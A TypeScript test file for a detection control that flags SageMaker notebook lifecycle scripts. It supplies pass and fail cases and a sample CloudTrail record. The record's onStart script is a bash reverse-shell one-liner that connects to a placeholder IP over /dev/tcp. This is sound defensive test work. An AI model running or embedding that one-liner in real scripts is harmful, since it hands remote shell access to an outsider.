import { Buffer } from 'node:buffer';
import control from '../../../shared/controls/sagemaker/notebook-lifecycle-script-content.ts';
import { cases } from '../cases.ts';

const script = '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n';

export default cases(control, {
  pass: {
    'no scripts': { onCreate: null, onStart: null },
    'nothing of the kind in them': { onCreate: null, onStart: { traits: [], secrets: ['a GitHub token'] } },
  },
  fail: {
    'one of them': {
      onCreate: null,
      onStart: { traits: ['opens a reverse shell'], secrets: [] },
      expect: 'starts opens a reverse shell',
    },
  },
  record: {
    eventSource: 'sagemaker.amazonaws.com',
    eventName: 'UpdateNotebookInstanceLifecycleConfig',
    requestParameters: {
      notebookInstanceLifecycleConfigName: 'hardening',
      onCreate: [{ content: Buffer.from('#!/bin/bash\n').toString('base64') }],
      onStart: [{ content: Buffer.from(script).toString('base64') }],
    },
  },
});
